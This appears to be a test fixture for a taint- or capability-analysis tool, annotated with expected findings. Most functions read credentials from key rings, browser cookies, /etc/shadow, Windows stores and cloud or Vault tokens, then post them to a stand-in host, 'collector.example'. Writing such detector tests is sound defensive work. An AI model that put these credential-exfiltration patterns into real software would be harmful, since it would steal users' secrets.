"""Where secrets are kept: key rings, browsers, prompts, cloud credentials."""
import getpass
import http.cookiejar
import netrc
import spwd

import browser_cookie3
import dotenv
import google.auth
import hvac
import keyring
import kubernetes.config
import msal
import requests
import secretstorage
import win32cred
import win32crypt
from azure.identity import DefaultAzureCredential
from azure.keyvault.secrets import SecretClient

U = "https://collector.example/u"


def key_ring():
    word = keyring.get_password("mail", "me")  #~ source(CREDENTIAL) f1, capability(CREDENTIALS)
    requests.post(U, data=word)  #~ sink(egress.http) f1, finding(traced) f1


def key_ring_set():
    keyring.set_password("app", "me", "x")  #~ capability(CREDENTIALS)
    keyring.set_password("app", "me", "x")  #~ ok


def prompt():
    word = getpass.getpass("password: ")  #~ source(CREDENTIAL) f3
    requests.post(U, data=word)  #~ sink(egress.http) f3, finding(traced) f3


def net_rc():
    words = netrc.netrc()  #~ source(CREDENTIAL) f4, capability(CREDENTIALS), capability(FILES)
    requests.post(U, data=words.authenticators("host")[2])  #~ sink(egress.http) f4, finding(traced) f4


def secrets_compared():
    requests.post(U, data={"set": keyring.get_password("app", "me") == "x"})  #~ ok
    requests.post(U, data={"same": getpass.getpass("again: ") == "x"})  #~ ok
    requests.post(U, data={"none": netrc.netrc().authenticators("host") == ()})  #~ ok


def cookies():
    jar = browser_cookie3.chrome()  #~ source(CREDENTIAL) f6, capability(CREDENTIALS), capability(FILES)
    requests.post(U, data=str(jar))  #~ sink(egress.http) f6, finding(traced) f6


def cookie_file():
    jar = http.cookiejar.MozillaCookieJar()
    jar.load("/home/me/cookies.txt")  #~ source(CREDENTIAL) f7, capability(CREDENTIALS)
    requests.post(U, data=str(jar))  #~ sink(egress.http) f7, finding(traced) f7


def windows_unprotect():
    word = win32crypt.CryptUnprotectData(b"x")  #~ source(CREDENTIAL) f8, capability(CREDENTIALS)
    requests.post(U, data=word[1])  #~ sink(egress.http) f8, finding(traced) f8


def windows_credentials():
    words = win32cred.CredEnumerate()  #~ source(CREDENTIAL) f9, capability(CREDENTIALS)
    requests.post(U, data=str(words))  #~ sink(egress.http) f9, finding(traced) f9


def shadow():
    words = spwd.getspall()  #~ source(CREDENTIAL) f10, capability(CREDENTIALS)
    requests.post(U, data=str(words))  #~ sink(egress.http) f10, finding(traced) f10


def cookies_compared():
    requests.post(U, data={"none": browser_cookie3.chrome() == ()})  #~ ok
    http.cookiejar.MozillaCookieJar().load("/home/me/cookies.txt")  #~ ok
    requests.post(U, data={"none": win32crypt.CryptUnprotectData(b"x") == ()})  #~ ok
    requests.post(U, data={"none": win32cred.CredEnumerate() == ()})  #~ ok
    requests.post(U, data={"none": spwd.getspall() == []})  #~ ok


def secret_service():
    items = secretstorage.search_items(None, {})  #~ source(CREDENTIAL) f12, capability(CREDENTIALS)
    requests.post(U, data=str(items))  #~ sink(egress.http) f12, finding(traced) f12


def secret_item(item):
    word = item.get_secret()  #~ source(CREDENTIAL) f13, capability(CREDENTIALS)
    requests.post(U, data=word)  #~ sink(egress.http) f13, finding(traced) f13


def azure_secret(client: SecretClient):
    requests.post(U, data=client.get_secret("s").value)  #~ source(CREDENTIAL) f14, sink(egress.http) f14, finding(traced) f14


def secret_compared(item):
    requests.post(U, data={"none": secretstorage.search_items(None, {}) == ()})  #~ ok
    requests.post(U, data={"none": item.get_secret() == b""})  #~ ok


def google_default():
    credentials, project = google.auth.default()  #~ source(CREDENTIAL) f16, capability(CREDENTIALS)
    requests.post(U, data=credentials.token)  #~ sink(egress.http) f16, finding(traced) f16


def azure_token():
    token = DefaultAzureCredential().get_token("scope")  #~ source(CREDENTIAL) f17, capability(CREDENTIALS)
    requests.post(U, data=token.token)  #~ sink(egress.http) f17, finding(traced) f17


def microsoft_token():
    token = msal.PublicClientApplication("id").acquire_token_silent([], None)  #~ source(CREDENTIAL) f18, capability(CREDENTIALS)
    requests.post(U, data=token["access_token"])  #~ sink(egress.http) f18, finding(traced) f18


def vault():
    secret = hvac.Client().read("secret/x")  #~ source(CREDENTIAL) f19, capability(CREDENTIALS)
    requests.post(U, data=secret["data"])  #~ sink(egress.http) f19, finding(traced) f19


def cloud_compared():
    requests.post(U, data={"none": google.auth.default() == ()})  #~ ok
    requests.post(U, data={"none": DefaultAzureCredential().get_token("scope") == ()})  #~ ok
    requests.post(U, data={"none": msal.PublicClientApplication("id").acquire_token_silent([], None) == ()})  #~ ok
    requests.post(U, data={"none": hvac.Client().read("secret/x") == ()})  #~ ok


def dot_env():
    values = dotenv.dotenv_values()  #~ source(ENVIRONMENT) f21, capability(ENVIRONMENT)
    requests.post(U, data=values)  #~ sink(egress.http) f21, finding(traced) f21


def dot_env_loaded():
    dotenv.load_dotenv()  #~ capability(ENVIRONMENT)
    dotenv.load_dotenv()  #~ ok
    requests.post(U, data={"none": dotenv.dotenv_values() == {}})  #~ ok


def cluster():
    kubernetes.config.load_kube_config()  #~ capability(CREDENTIALS)
    kubernetes.config.load_kube_config()  #~ ok
